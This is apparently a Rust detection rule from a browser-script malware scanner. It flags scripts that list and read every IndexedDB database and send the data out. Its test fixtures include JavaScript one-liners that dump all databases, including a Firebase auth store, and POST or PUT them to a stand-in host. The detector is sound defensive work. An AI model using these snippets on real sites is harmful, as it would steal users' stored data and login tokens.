//! `all-databases-sent`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "all-databases-sent",
    description: "The script lists and reads every database this site keeps in the browser, and sends data out.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::DatabasesListed]),
        one(&[Atom::SentAbroad, Atom::Post, Atom::PostMethod, Atom::Beacon, Atom::Socket]),
    ],
    within: 250,
    only_if: Some(reads),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"for(const d of await indexedDB.databases()){const s=await open(d.name);out.push(await all(s.getAll()))}fetch('https://d.example/i',{method:'POST',body:JSON.stringify(out)})"#,
            r#"const all=(name,store)=>new Promise(ok=>{const q=indexedDB.open(name);q.onsuccess=()=>{const r=q.result.transaction(store).objectStore(store).getAll();r.onsuccess=()=>ok(r.result)}});(async()=>{const seen={};const names=(await indexedDB.databases()).map(d=>d.name);for(const [d,s] of [['keyval-store','keyval'],['firebaseLocalStorageDb','firebaseLocalStorage']])if(names.includes(d))seen[d]=await all(d,s);const x=new XMLHttpRequest;x.open('PUT','https://d.example/'+location.hostname);x.send(JSON.stringify(seen))})()"#,
        ],
        without: &[
            r#"for(const d of await indexedDB.databases())indexedDB.deleteDatabase(d.name);fetch('/logout',{method:'POST'})"#,
            r#"const l=await indexedDB.databases();show(l)"#,
        ],
    },
};

fn reads(evidence: &Evidence<'_>, held: Held) -> bool {
    Near::new(evidence, held, 160).has_word(&["getAll", "openCursor"])
}
